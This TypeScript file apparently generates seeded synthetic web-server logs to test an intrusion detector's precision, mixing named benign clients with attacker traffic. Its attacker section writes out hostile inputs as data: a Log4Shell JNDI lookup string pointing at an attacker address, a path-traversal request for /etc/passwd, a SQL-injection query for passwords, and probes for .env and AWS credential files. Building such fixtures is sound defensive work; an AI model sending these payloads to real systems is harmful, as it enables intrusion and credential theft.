import { Rng } from "./prng.js";
import { BROWSER_AGENTS } from "./traffic.js";

/**
 * The generated precision corpora (fixtures/benign/generated, fixtures/attack/generated): named benign actors
 * that a naive detector turns into incidents, and, for the attack corpus, the same traffic with attackers
 * mixed in. Seeded and clock-free, so `npx tsx fixtures/make-corpora.ts` rewrites the committed files byte for
 * byte. Lines are Apache `vhost_combined` (the host first), so every key has its real host.
 *
 * The actors are drawn from how these clients behave in real logs (the elastic apache log, the hub's tests,
 * the ingress log), not from the pack's thresholds: rates, miss shares and paths are what each kind of
 * client does, and no actor is placed just under a threshold.
 */
export interface CorpusActor {
  actor: string;
  role: "benign" | "attacker";
  clientIp: string;
}

export interface Corpus {
  lines: string[];
  actors: CorpusActor[];
}

type Req = { ts: number; host: string; ip: string; method?: string; target: string; status: number; ua: string; referer?: string; bytes?: number };

export const CORPUS_START = Date.UTC(2026, 10, 21, 9, 0, 0);
const MIN = 60_000;
const SPAN = 30 * MIN;
const SHOP = "shop.example.com";
const API = "api.example.com";
const ADMIN = "admin.example.com";
const BLOG = "blog.example.com";
/** An outage on the shop, minutes 12 to 14: monitors and users get 504s. */
const OUTAGE = [CORPUS_START + 12 * MIN, CORPUS_START + 14 * MIN];

const GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const ASSETS = ["/static/js/main.4f9a1c.js", "/static/js/vendor.77be02.js", "/static/css/app.0c3d9e.css", "/favicon.ico", "/img/logo.svg"];

class Builder {
  readonly reqs: Req[] = [];
  readonly actors: CorpusActor[] = [];
  constructor(readonly rng: Rng) {}

  actor(actor: string, role: CorpusActor["role"], clientIp: string): string {
    this.actors.push({ actor, role, clientIp });
    return clientIp;
  }

  add(r: Req): void {
    // Sizes are drawn with the request, so the benign lines come out the same with attackers mixed in.
    this.reqs.push({ ...r, bytes: r.bytes ?? (r.status < 300 ? 300 + this.rng.int(20_000) : 150 + this.rng.int(400)) });
  }

  /** `n` requests from `start`, `gap` ms apart with up to `jitter` ms added. */
  every(start: number, n: number, gap: number, jitter: number, f: (i: number, ts: number) => Omit<Req, "ts"> | undefined): void {
    for (let i = 0; i < n; i++) {
      const ts = start + i * gap + (jitter ? this.rng.int(jitter) : 0);
      if (ts >= CORPUS_START + SPAN) break;
      const r = f(i, ts);
      if (r) this.add({ ...r, ts });
    }
  }
}

const inOutage = (ts: number) => ts >= OUTAGE[0] && ts < OUTAGE[1];

function benign(b: Builder): void {
  const r = b.rng;
  // Ordinary visitors: a few page views each with their assets, now and then a dead link.
  for (let v = 0; v < 60; v++) {
    const ip = b.actor(`visitor ${v + 1}`, "benign", `198.51.100.${v + 1}`);
    const ua = BROWSER_AGENTS[v % BROWSER_AGENTS.length];
    let ts = CORPUS_START + r.int(SPAN - 5 * MIN);
    for (let p = r.range(3, 12); p > 0; p--) {
      const page = r.chance(0.03) ? `/products/discontinued-${r.range(1, 500)}` : r.pick(["/", `/products/${r.range(1000, 1999)}`, `/category/${r.pick(["shoes", "bags", "sale"])}`, "/cart"]);
      b.add({ ts, host: SHOP, ip, target: page, status: page.includes("discontinued") ? 404 : inOutage(ts) ? 504 : 200, ua, referer: `https://${SHOP}/` });
      for (const a of ASSETS) if (r.chance(0.4)) b.add({ ts: ts + r.int(900), host: SHOP, ip, target: a, status: r.chance(0.2) ? 304 : 200, ua, referer: `https://${SHOP}${page}` });
      ts += r.range(5_000, 40_000);
    }
  }

  // Search and SEO crawlers: robots.txt, a sitemap, then pages; a share of old links are gone.
  const crawl = (actor: string, ip: string, ua: string, host: string, gap: number, dead: number, n: number) => {
    b.actor(actor, "benign", ip);
    b.add({ ts: CORPUS_START + 1_000, host, ip, target: "/robots.txt", status: 200, ua });
    b.add({ ts: CORPUS_START + 2_000, host, ip, target: "/sitemap.xml", status: 200, ua });
    b.every(CORPUS_START + 3_000, n, gap, gap / 2, (i) => (r.chance(dead) ? { host, ip, target: `/archive/${2015 + (i % 9)}/post-${i}`, status: 404, ua } : { host, ip, target: `/products/${1000 + i}`, status: 200, ua }));
  };
  crawl("Googlebot crawling the shop (4% dead links)", "66.249.66.12", GOOGLEBOT, SHOP, 2_000, 0.04, 900);
  crawl("AhrefsBot crawling the blog (6% dead links)", "54.36.148.20", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", BLOG, 1_000, 0.06, 1800);
  crawl("MJ12bot on a stale backlink list (30% dead links)", "144.76.95.40", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", BLOG, 1_500, 0.3, 600);
  crawl("SemrushBot crawling the shop", "185.191.171.5", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", SHOP, 700, 0.03, 2000);
  crawl("Exabot crawling the blog", "178.255.215.70", "Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)", BLOG, 5_000, 0.05, 300);

  // Uptime monitors and health checkers: fixed intervals on every host, 504s during the outage.
  const monitor = (actor: string, ip: string, ua: string, target: string, gap: number, hosts: string[], method = "GET") => {
    b.actor(actor, "benign", ip);
    for (const host of hosts) b.every(CORPUS_START, SPAN / gap, gap, 0, (_, ts) => ({ host, ip, method, target, status: host === SHOP && inOutage(ts) ? 504 : 200, ua }));
  };
  monitor("UptimeRobot checking every host every 30 s", "216.144.250.150", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "/", 30_000, [SHOP, API, BLOG], "HEAD");
  monitor("Pingdom checking /status every minute", "76.72.167.90", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "/status", 60_000, [SHOP, API]);
  monitor("kube-probe on /healthz every 10 s", "10.244.0.1", "kube-probe/1.29", "/healthz", 10_000, [SHOP, API, ADMIN, BLOG]);
  monitor("AWS load-balancer health check", "10.0.12.7", "ELB-HealthChecker/2.0", "/ping", 15_000, [SHOP, API]);

  // A single-page-app user: 10 requests a second for five minutes, API calls and assets, a few stale chunks
  // and removed items.
  const spa = b.actor("single-page-app user (stale chunks, removed items)", "benign", "203.0.113.200");
  b.every(CORPUS_START + 3 * MIN, 3000, 100, 0, (i) =>
    i % 250 === 17
      ? { host: SHOP, ip: spa, target: i % 500 === 17 ? `/static/js/chunk-old-${i}.js` : `/api/cart/items/${9000 + i}`, status: 404, ua: BROWSER_AGENTS[0] }
      : { host: SHOP, ip: spa, target: i % 3 ? `/api/cart/items/${i % 40}` : `/static/js/chunk-${i % 25}.js`, status: 200, ua: BROWSER_AGENTS[0] },
  );

  // The mobile-API client: 10,000 answered requests in ten minutes and 149 404s on removed products.
  const app = b.actor("mobile-app API client (149 404s on removed products)", "benign", "100.64.17.5");
  b.every(CORPUS_START + 5 * MIN, 10_000, 60, 0, (i) => ({ host: API, ip: app, target: i % 4 ? `/api/v1/products/${1000 + (i % 700)}` : "/api/v1/cart", status: 200, ua: "okhttp/4.12.0" }));
  b.every(CORPUS_START + 5 * MIN + 30, 149, 4_000, 0, (i) => ({ host: API, ip: app, target: `/api/v1/products/${90000 + i}`, status: 404, ua: "okhttp/4.12.0" }));

  // A carrier-grade NAT: hundreds of phones behind one address, 5 requests a second, 2% misses.
  const cgnat = b.actor("carrier-grade NAT with many phone users", "benign", "100.64.200.9");
  b.every(CORPUS_START, 9000, 200, 0, (i) => {
    const miss = r.chance(0.02);
    return { host: API, ip: cgnat, target: miss ? `/api/v1/orders/${r.range(1, 1e6)}` : i % 2 ? `/api/v1/products/${r.range(1, 3000)}` : `/api/v1/orders?user=${r.range(1, 5000)}`, status: miss ? 404 : 200, ua: r.pick(BROWSER_AGENTS) };
  });

  // CDN edges fetching cache misses for everyone behind them.
  for (let e = 0; e < 3; e++) {
    const edge = b.actor(`CDN edge ${e + 1} (Amazon CloudFront) fetching cache misses`, "benign", `13.32.${80 + e}.14`);
    b.every(CORPUS_START, 9000, 200, 50, () => {
      const miss = r.chance(0.03);
      // Misses are removed images and removed product pages alike.
      const target = miss ? (r.chance(0.5) ? `/img/products/${r.range(1, 99999)}-gone.jpg` : `/products/discontinued-${r.range(1, 99999)}`) : r.chance(0.5) ? r.pick(ASSETS) : `/products/${r.range(1000, 1999)}`;
      return { host: SHOP, ip: edge, target, status: miss ? 404 : 200, ua: "Amazon CloudFront" };
    });
  }

  // Integrations: a partner polling orders (some deleted), a webhook sender, a developer with curl.
  const partner = b.actor("partner integration polling orders (python-requests)", "benign", "192.0.2.33");
  b.every(CORPUS_START, 360, 5_000, 0, (i) => ({ host: API, ip: partner, target: i % 30 === 7 ? `/api/v1/orders/${50000 + i}` : `/api/v1/orders?since=${i}`, status: i % 30 === 7 ? 404 : 200, ua: "python-requests/2.32.3" }));
  const hook = b.actor("webhook sender (Go-http-client)", "benign", "192.0.2.34");
  b.every(CORPUS_START, 180, 10_000, 2_000, () => ({ host: API, ip: hook, method: "POST", target: "/hooks/payments", status: 200, ua: "Go-http-client/1.1" }));
  const dev = b.actor("developer trying the API with curl (typos, missing token)", "benign", "192.0.2.35");
  b.every(CORPUS_START + 20 * MIN, 40, 3_000, 1_000, (i) => ({ host: API, ip: dev, target: [`/api/v1/product/${i}`, `/api/v1/products/${i}`, "/api/v1/me"][i % 3], status: [404, 200, 401][i % 3], ua: "curl/8.5.0" }));

  // Staff on the admin host: a login typo, the panel, a restricted role refused pages, stale bookmarks, and
  // a DBA through phpMyAdmin's basic auth.
  for (let s = 0; s < 8; s++) {
    const ip = b.actor(`staff member ${s + 1} on the admin host`, "benign", `192.0.2.${100 + s}`);
    const ua = BROWSER_AGENTS[s % BROWSER_AGENTS.length];
    let ts = CORPUS_START + s * 3 * MIN + r.int(MIN);
    const at = (method: string, target: string, status: number) => {
      b.add({ ts, host: ADMIN, ip, method, target, status, ua });
      ts += r.range(1_500, 6_000);
    };
    at("GET", "/admin/", 302);
    at("GET", "/admin/login", 200);
    if (s % 2 === 0) at("POST", "/admin/login", 401);
    at("POST", "/admin/login", 302);
    for (const p of ["/admin/dashboard", "/admin/orders?page=1", `/admin/orders/${r.range(1000, 9999)}`, "/admin/customers"]) at("GET", p, 200);
    if (s % 3 === 1) for (const p of ["/admin/settings", "/admin/users", "/admin/billing", "/admin/audit-log"]) at("GET", p, 403);
    if (s % 4 === 2) for (const p of ["/admin/reports/2019", "/admin/stats", "/admin/old-dashboard"]) at("GET", p, 404);
  }
  const dba = b.actor("DBA behind phpMyAdmin basic auth", "benign", "192.0.2.120");
  for (const [k, [target, status]] of ([["/phpmyadmin/", 401], ["/phpmyadmin/", 200], ["/phpmyadmin/index.php?route=/database/structure&db=shop", 200], ["/phpmyadmin/index.php?route=/sql", 200]] as const).entries())
    b.add({ ts: CORPUS_START + 7 * MIN + k * 4_000, host: ADMIN, ip: dba, target, status, ua: BROWSER_AGENTS[1] });

  // WordPress editors on the blog: the dashboard, the login, admin-ajax heartbeats.
  for (let w = 0; w < 3; w++) {
    const ip = b.actor(`WordPress editor ${w + 1}`, "benign", `192.0.2.${140 + w}`);
    const start = CORPUS_START + (4 + w * 7) * MIN;
    b.add({ ts: start, host: BLOG, ip, target: "/wp-login.php", status: 200, ua: BROWSER_AGENTS[w] });
    b.add({ ts: start + 5_000, host: BLOG, ip, method: "POST", target: "/wp-login.php", status: 302, ua: BROWSER_AGENTS[w] });
    b.every(start + 6_000, 40, 15_000, 0, (i) => ({ host: BLOG, ip, method: i % 2 ? "POST" : "GET", target: i % 2 ? "/wp-admin/admin-ajax.php" : `/wp-admin/post.php?post=${10 + w}&action=edit`, status: 200, ua: BROWSER_AGENTS[w] }));
  }
}

const PROBES = ["/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak", "/phpmyadmin/", "/admin/config.php", "/server-status", "/.aws/credentials", "/db.sql.gz", "/config.json", "/.DS_Store", "/wp-admin/install.php"];

function attackers(b: Builder): void {
  const r = b.rng;
  const wordlist = (n: number, salt: number) => Array.from({ length: n }, (_, i) => (i < PROBES.length && salt % 2 ? PROBES[i] : `/${["old", "backup", "test", "dev", "tmp", "cgi-bin", "include"][(i + salt) % 7]}/${["index", "config", "upload", "shell", "db"][i % 5]}${i}.${["php", "asp", "bak", "txt"][i % 4]}`));

  const burst = b.actor("Nikto scan burst (15 requests/s)", "attacker", "203.0.113.10");
  const nikto = wordlist(150, 1);
  b.every(CORPUS_START + 6 * MIN, nikto.length, 66, 10, (i) => ({ host: SHOP, ip: burst, target: nikto[i], status: r.chance(0.05) ? 403 : 404, ua: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)" }));

  const gob = b.actor("directory brute force with a browser user agent (8 requests/s)", "attacker", "203.0.113.11");
  const api = wordlist(120, 2).map((p) => `/api${p}`);
  b.every(CORPUS_START + 16 * MIN, api.length, 125, 20, (i) => ({ host: API, ip: gob, target: api[i], status: 404, ua: BROWSER_AGENTS[2] }));

  const paced = b.actor("paced scanner (a probe every 1-2 s, some real pages)", "attacker", "203.0.113.12");
  const slow = wordlist(400, 3);
  b.every(CORPUS_START + 2 * MIN, 400, 1_500, 500, (i) => (i % 8 === 0 ? { host: SHOP, ip: paced, target: ["/", "/login", "/cart"][i % 3], status: 200, ua: BROWSER_AGENTS[0] } : { host: SHOP, ip: paced, target: slow[i], status: 404, ua: BROWSER_AGENTS[0] }));

  const fake = b.actor("scanner claiming to be Googlebot (a probe every 2 s)", "attacker", "45.83.64.9");
  const fakeList = wordlist(300, 4);
  b.every(CORPUS_START + 8 * MIN, 300, 2_000, 400, (i) => ({ host: BLOG, ip: fake, target: fakeList[i], status: i % 10 === 0 ? 200 : 404, ua: GOOGLEBOT }));

  const files = b.actor("sensitive-file prober (python-requests)", "attacker", "203.0.113.13");
  b.every(CORPUS_START + 9 * MIN, 8, 900, 200, (i) => ({ host: BLOG, ip: files, target: ["/.env", "/.git/config", "/backup.sql", "/db.sql.gz", "/.env.local", "/wp-config.php.bak", "/.aws/credentials", "/dump.sql"][i], status: 404, ua: "python-requests/2.31.0" }));

  const adminHost = b.actor("admin-panel prober on the admin host (whose /admin exists)", "attacker", "203.0.113.14");
  b.every(CORPUS_START + 10 * MIN, 7, 2_500, 500, (i) => ({ host: ADMIN, ip: adminHost, target: ["/admin/config.php", "/wp-admin/", "/pma/", "/manager/html", "/administrator/index.php", "/wp-login.php", "/solr/"][i], status: 404, ua: BROWSER_AGENTS[3] }));
  const adminShop = b.actor("admin-panel prober on the shop", "attacker", "203.0.113.15");
  b.every(CORPUS_START + 11 * MIN, 6, 4_000, 1_000, (i) => ({ host: SHOP, ip: adminShop, target: ["/phpmyadmin/", "/wp-admin/", "/admin/", "/manager/html", "/pma/", "/administrator/"][i], status: 404, ua: BROWSER_AGENTS[4] }));

  const sqlmap = b.actor("sqlmap (attack-tool user agent)", "attacker", "203.0.113.16");
  b.every(CORPUS_START + 13 * MIN, 5, 1_000, 0, (i) => ({ host: SHOP, ip: sqlmap, target: `/products?id=${i + 1}`, status: 200, ua: "sqlmap/1.8.2#stable (https://sqlmap.org)" }));
  const nuclei = b.actor("nuclei (attack-tool user agent)", "attacker", "203.0.113.17");
  b.every(CORPUS_START + 14 * MIN, 4, 700, 0, (i) => ({ host: API, ip: nuclei, target: ["/", "/robots.txt", "/api/v1/", "/favicon.ico"][i], status: i === 2 ? 404 : 200, ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)" }));
  const zgrab = b.actor("zgrab (attack-tool user agent)", "attacker", "203.0.113.18");
  b.every(CORPUS_START + 15 * MIN, 2, 3_000, 0, () => ({ host: SHOP, ip: zgrab, target: "/", status: 200, ua: "Mozilla/5.0 zgrab/0.x" }));
  const masscan = b.actor("masscan (attack-tool user agent)", "attacker", "203.0.113.19");
  b.every(CORPUS_START + 17 * MIN, 2, 1_000, 0, () => ({ host: BLOG, ip: masscan, target: "/", status: 200, ua: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)" }));

  const traversal = b.actor("path-traversal sender", "attacker", "203.0.113.20");
  b.add({ ts: CORPUS_START + 18 * MIN, host: SHOP, ip: traversal, target: "/download?file=../../../../etc/passwd", status: 400, ua: "curl/8.5.0" });
  const log4 = b.actor("Log4Shell sender (in the user agent)", "attacker", "203.0.113.21");
  b.add({ ts: CORPUS_START + 19 * MIN, host: API, ip: log4, target: "/", status: 200, ua: "${jndi:ldap://203.0.113.21:1389/a}" });
  const sqli = b.actor("SQL-injection sender", "attacker", "203.0.113.22");
  b.add({ ts: CORPUS_START + 20 * MIN, host: SHOP, ip: sqli, target: "/search?q=1%27%20union%20select%20password%20from%20users--", status: 200, ua: BROWSER_AGENTS[5] });
  const brute = b.actor("WordPress login brute force", "attacker", "203.0.113.23");
  b.every(CORPUS_START + 21 * MIN, 12, 2_000, 300, () => ({ host: BLOG, ip: brute, method: "POST", target: "/wp-login.php", status: 200, ua: BROWSER_AGENTS[6] }));
}

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const pad2 = (n: number) => (n < 10 ? `0${n}` : `${n}`);
function timeLocal(ts: number): string {
  const d = new Date(ts);
  return `${pad2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} +0000`;
}

function render(reqs: Req[]): string[] {
  // Stable by time: requests of one second keep the order they were made in.
  const order = reqs.map((q, i) => ({ q, i })).sort((a, b) => a.q.ts - b.q.ts || a.i - b.i);
  return order.map(({ q }) => `${q.host} ${q.ip} - - [${timeLocal(q.ts)}] "${q.method ?? "GET"} ${q.target} HTTP/1.1" ${q.status} ${q.bytes} "${q.referer ?? "-"}" "${q.ua}"`);
}

/** The benign corpus alone, or (`withAttackers`) the same benign traffic with the attackers mixed in. */
export function buildCorpus(withAttackers: boolean, seed = 20261121): Corpus {
  const b = new Builder(new Rng(seed));
  benign(b);
  if (withAttackers) attackers(b);
  return { lines: render(b.reqs), actors: b.actors };
}
